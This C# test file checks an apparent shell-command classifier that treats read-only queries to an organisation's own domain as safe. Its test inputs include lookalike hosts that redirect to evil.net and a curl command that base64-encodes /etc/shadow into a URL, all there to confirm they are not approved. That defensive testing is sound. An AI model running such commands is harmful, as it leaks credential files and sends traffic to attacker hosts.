using Firstlook.Access;
using Firstlook.Effects;
using Firstlook.Effects.Tools;

namespace Firstlook.Tests.Effects;

public sealed class OwnDomainTests
{
    static readonly Toolset Tools = TeamRules.Read([], ToolGrant.Default with { OwnDomains = ["shop.example.com"] }).Tools;

    static Effect Judged(string command, Toolset? tools) => Classifier.Whole(command, Language.Shell, tools).Effect;

    [Theory]
    [InlineData("logcli --addr=https://loki.shop.example.com query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli --addr=https://LOKI.Shop.Example.COM query '{app=\"x\"}' --limit 10")]
    [InlineData("amtool --alertmanager.url=https://alerts.shop.example.com:9093 alert query")]
    [InlineData("VAULT_ADDR=https://vault.shop.example.com:8200 vault status")]
    [InlineData("export NOMAD_ADDR=https://shop.example.com; nomad node status")]
    [InlineData("temporal --address temporal.shop.example.com:7233 workflow list")]
    public void A_server_below_the_organisation_s_own_domain_is_asked_without_a_click(string command)
    {
        Assert.Equal(Effect.Unknown, Judged(command, null));
        Assert.Equal(Effect.Read, Judged(command, Tools));
    }

    [Theory]
    [InlineData("logcli --addr=https://loki.example.com query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli --addr=https://loki.shop.example.com.evil.net query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli --addr=https://lokishop.example.com query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli --addr=https://xshop.example.com query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli --addr=https://loki.shop.example.com@evil.net query '{app=\"x\"}' --limit 10")]
    [InlineData(@"logcli '--addr=https://evil.net\.shop.example.com' query '{app=""x""}' --limit 10")]
    [InlineData("logcli '--addr=https://evil.net?.shop.example.com' query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli '--addr=https://evil.net#.shop.example.com' query '{app=\"x\"}' --limit 10")]
    [InlineData("logcli '--addr=https://evil.net%2f.shop.example.com' query '{app=\"x\"}' --limit 10")]
    [InlineData("VAULT_ADDR=https://vault.shop.example.com@evil.net vault status")]
    [InlineData("VAULT_ADDR=https://evil.net/.shop.example.com vault status")]
    [InlineData("export NOMAD_ADDR=https://shop.example.com.evil.net; nomad node status")]
    public void A_name_that_only_looks_like_one_of_the_organisation_s_still_waits(string command) => Assert.NotEqual(Effect.Read, Judged(command, Tools));

    [Theory]
    [InlineData("curl -X POST https://api.shop.example.com/restart")]
    [InlineData("vault kv delete -address=https://vault.shop.example.com secret/x")]
    [InlineData("curl https://shop.example.com/$(base64 /etc/shadow)")]
    public void What_changes_something_or_carries_what_a_file_holds_waits_there_too(string command) => Assert.NotEqual(Effect.Read, Judged(command, Tools));

    [Theory]
    [InlineData("example.com", true)]
    [InlineData("a-b.example.co", true)]
    [InlineData("com", false)]
    [InlineData(".example.com", false)]
    [InlineData("*.example.com", false)]
    [InlineData("example.com.", false)]
    [InlineData("10.0.0.1", false)]
    [InlineData("exa mple.com", false)]
    [InlineData("https://example.com", false)]
    [InlineData("", false)]
    public void A_domain_has_at_least_two_names_and_nothing_else(string text, bool valid) => Assert.Equal(valid, ToolGrant.IsDomain(text));

    [Fact]
    public void The_record_says_which_machines_an_administrator_called_the_organisation_s_own() =>
        Assert.EndsWith("; machines below shop.example.com are the organisation's own", new ToolRules([], Effect.Reversible, []) { OwnDomains = ["shop.example.com"] }.Sentence, StringComparison.Ordinal);
}
